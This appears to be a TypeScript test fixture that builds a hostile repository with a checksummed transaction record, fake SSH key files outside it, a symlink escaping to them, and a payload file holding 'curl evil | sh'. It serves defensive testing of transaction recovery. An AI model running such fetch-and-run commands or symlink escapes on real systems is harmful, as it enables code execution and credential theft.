// A repository as a stranger may publish it: with its own transaction record, whose checksum is correct.
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import { join } from "node:path";
import { temporaryFolder } from "@atomic/testing/temporary-folder";

export type Planted = AsyncDisposable & {
  /** What must not be touched. */
  home: string;
  repository: string;
  state: string;
  plant(phase: string, record: unknown): void;
};

export const sha256 = (text: string): string => `sha256:${createHash("sha256").update(text).digest("hex")}`;

export const payload = "curl evil | sh\n";
export const secret = "a secret key";

export async function plantedRepository(): Promise<Planted> {
  const folder = await temporaryFolder();
  const home = join(folder.path, "home");
  const repository = join(folder.path, "repository");
  const state = join(repository, ".opencode/.hugo");
  fs.mkdirSync(join(home, "keys"), { recursive: true });
  fs.writeFileSync(join(home, "id_rsa"), secret);
  fs.writeFileSync(join(home, "keys/known"), secret);
  fs.mkdirSync(state, { recursive: true });
  fs.writeFileSync(join(repository, "payload"), payload);
  fs.writeFileSync(join(repository, "inside"), secret);
  fs.symlinkSync("../home", join(repository, "link"));
  return {
    home,
    repository,
    state,
    plant: (phase, record) => {
      const body = JSON.stringify(record);
      const sum = createHash("sha256").update(body).digest("hex");
      const header = JSON.stringify({ format: "durable-files transaction 1", sha256: sum });
      fs.writeFileSync(join(state, `transaction.${phase}`), `${header}\n${body}\n`);
    },
    [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose](),
  };
}
